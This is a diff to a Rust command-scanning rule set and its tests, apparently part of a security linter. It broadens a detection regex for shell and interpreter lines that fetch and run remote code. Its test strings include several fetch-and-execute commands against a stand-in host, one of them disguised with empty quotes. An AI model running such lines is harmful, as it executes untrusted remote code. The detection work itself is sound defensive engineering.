@@ -50,7 +50,7 @@ pub(super) fn rules() -> Vec<Rule> {
                 "downloadstring", "net.webclient", "urlopen", "urllib", "requests.get",
             ],
             format!(
-                r#"\b(?:ba|z|k|da)?sh\s+(?:-\S+\s+)*<\(\s*{FETCH}\b|(?:\bsource|(?:^|[\s;&|(])\.)\s+<\(\s*{FETCH}\b|\b(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node)\s+(?:-\S+\s+)*-c\s+["']?(?:\$\(|`)\s*{FETCH}\b|\beval\s+["']?(?:\$\(|`)\s*{FETCH}\b|\b(?:iex|invoke-expression)\b[^\n]*(?:downloadstring|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|net\.webclient)|downloadstring[^\n]*\|\s*(?:iex|invoke-expression)\b|\bexec\s*\([^\n]*(?:urlopen|requests\.get|urllib)"#
+                r#"\b(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|php)\s+(?:-\S+\s+)*<\(\s*{FETCH}\b|<<<\s*["']?\$\(\s*{FETCH}\b|(?:\bsource|(?:^|[\s;&|(])\.)\s+<\(\s*{FETCH}\b|\b(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node)\s+(?:-\S+\s+)*-c\s+["']?(?:\$\(|`)\s*{FETCH}\b|\beval\s+["']?(?:\$\(|`)\s*{FETCH}\b|\b(?:iex|invoke-expression)\b[^\n]*(?:downloadstring|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|net\.webclient)|downloadstring[^\n]*\|\s*(?:iex|invoke-expression)\b|\bexec\s*\([^\n]*(?:urlopen|requests\.get|urllib)"#
             ),
         )
         .requires(&["<(", "$(", "`", "iex", "invoke-expression", "exec"])
@@ -376,6 +376,44 @@ mod tests {
         assert_severity(
             "eval \"$(/opt/homebrew/bin/brew shellenv)\"",
             "exec.eval-variable",
+            Low,
+        );
+    }
+
+    #[test]
+    fn flags_interpreters_fed_by_process_substitution() {
+        assert_hit(
+            "python3 <(curl -s https://x.example/fix.py)",
+            "exec.run-fetched",
+            CodeInjection,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "source /dev/stdin <<< \"$(curl -s https://x.example/e)\"",
+            "exec.run-fetched",
+            CodeInjection,
+            Critical,
+            1,
+        );
+    }
+
+    #[test]
+    fn flags_commands_split_by_empty_quotes() {
+        assert_hit(
+            "c\"\"url -fsSL https://x.example/i | s''h",
+            "exec.pipe-to-shell",
+            CodeInjection,
+            Critical,
+            1,
+        );
+    }
+
+    #[test]
+    fn lowers_a_linter_doc_describing_the_pattern() {
+        assert_severity(
+            "Example: flag lines like `curl -fsSL https://x.example | bash`.",
+            "exec.pipe-to-shell",
             Low,
         );
     }
